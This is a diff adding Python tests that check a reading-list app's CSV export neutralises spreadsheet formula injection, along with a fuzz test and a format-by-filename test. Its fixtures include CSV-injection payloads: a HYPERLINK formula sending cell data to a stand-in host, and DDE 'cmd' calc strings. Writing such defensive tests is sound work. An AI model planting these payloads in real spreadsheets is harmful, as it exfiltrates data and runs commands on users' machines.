@@ -13,7 +13,8 @@ from hypothesis import strategies as st
 from markdown_it import MarkdownIt
 from markdown_it.token import Token
 
-from readinglist.core.export import escape_markdown
+from readinglist.core.export import escape_markdown, format_for, render
+from readinglist.core.models import PaperRecord
 from readinglist.core.service import ReadingList
 
 HOSTILE = [
@@ -129,3 +130,106 @@ def test_export_file_is_atomic(
 def test_escaped_titles_render_literally(title: str):
     tokens = MD.parse(f"## {escape_markdown(title)}\n")
     assert headings(tokens, "h2") == [" ".join(title.split())] or headings(tokens, "h2") == [title]
+
+
+FORMULA_STARTS = "=+-@\uff1d\uff0b\uff0d\uff20"  # and their full-width forms
+TEXT_COLUMNS = ("title", "abstract", "org", "org_id", "date_text", "links", "note")
+
+
+def _runs_as_formula(cell: str) -> bool:
+    """What OWASP's CSV-injection guidance says a spreadsheet may run."""
+    return cell[:1] in ("\t", "\r") or cell.lstrip()[:1] in tuple(FORMULA_STARTS)
+
+
+def _csv_rows(text: str) -> list[dict[str, str]]:
+    return list(csv.DictReader(io.StringIO(text, newline="")))
+
+
+def test_csv_cells_never_start_a_formula(service: ReadingList, tmp_path: Path):
+    hostile = [
+        '=HYPERLINK("https://evil.example/?"&A1,"click")',
+        "+1+cmd|' /C calc'!A0",
+        "-2+3 a title that is a sum",
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+    ]
+    page = tmp_path / "formulas.txt"
+    blocks = ["Daily Papers"]
+    for title in hostile:
+        blocks += [title, f"=1+1 abstract of {title}"]
+    page.write_text("\n\n".join(blocks) + "\n", encoding="utf-8")
+    service.import_pages([page])
+    ids = [row.id for row in service.list(sort="title")]
+    service.set_note(ids[0], "\t=1+1 a note that starts with a tab")
+    service.set_note(ids[1], "   @cmd after spaces")
+    rows = _csv_rows(service.export(ids, "csv"))
+    assert {row["title"] for row in rows} == {"'" + title for title in hostile}
+    for row in rows:
+        for column in TEXT_COLUMNS:
+            assert not _runs_as_formula(row[column]), (column, row[column])
+    notes = {row["note"] for row in rows}
+    assert "'\t=1+1 a note that starts with a tab" in notes and "'   @cmd after spaces" in notes
+
+
+def _record(**text: object) -> PaperRecord:
+    fields: dict[str, object] = {
+        "id": 1,
+        "title": "t",
+        "abstract": "",
+        "authors": 3,
+        "org": None,
+        "org_id": None,
+        "date": "2024-05-01",
+        "date_text": None,
+        "upvotes": 12,
+        "links": (),
+        "starred": False,
+        "note": "",
+        "status": "unread",
+        "added_at": "2026-11-25T00:00:00+00:00",
+    }
+    return PaperRecord(**{**fields, **text})  # type: ignore[arg-type]
+
+
+CELL = st.text(alphabet=st.sampled_from(list(FORMULA_STARTS + " \t\r\n,\"';|!aZ1(")), max_size=8)
+
+
+@settings(max_examples=300, deadline=None)
+@given(
+    title=CELL,
+    abstract=CELL,
+    org=CELL,
+    note=CELL,
+    link=CELL.filter(lambda cell: " " not in cell),
+)
+def test_csv_neutralises_formulas_in_every_text_field(
+    title: str, abstract: str, org: str, note: str, link: str
+):
+    record = _record(title=title, abstract=abstract, org=org, org_id=org, note=note, links=(link,))
+    [row] = _csv_rows(render([record], "csv"))
+    originals = {
+        "title": title,
+        "abstract": abstract,
+        "org": org,
+        "org_id": org,
+        "note": note,
+        "links": link,
+    }
+    for column, original in originals.items():
+        cell = row[column]
+        assert not _runs_as_formula(cell), (column, cell)
+        # a neutralised cell is the original behind one quote; any other is unchanged
+        assert cell == ("'" + original if _runs_as_formula(original) else original)
+    assert (row["id"], row["authors"], row["upvotes"]) == ("1", "3", "12")
+
+
+def test_the_file_name_picks_the_format():
+    names = ["a.json", "B.CSV", "c.md", "d.markdown", "e.txt", "f", "g.json.bak"]
+    assert [format_for(Path(name)) for name in names] == [
+        "json",
+        "csv",
+        "md",
+        "md",
+        "md",  # any other name is Markdown, in the app and the CLI
+        "md",
+        "md",
+    ]
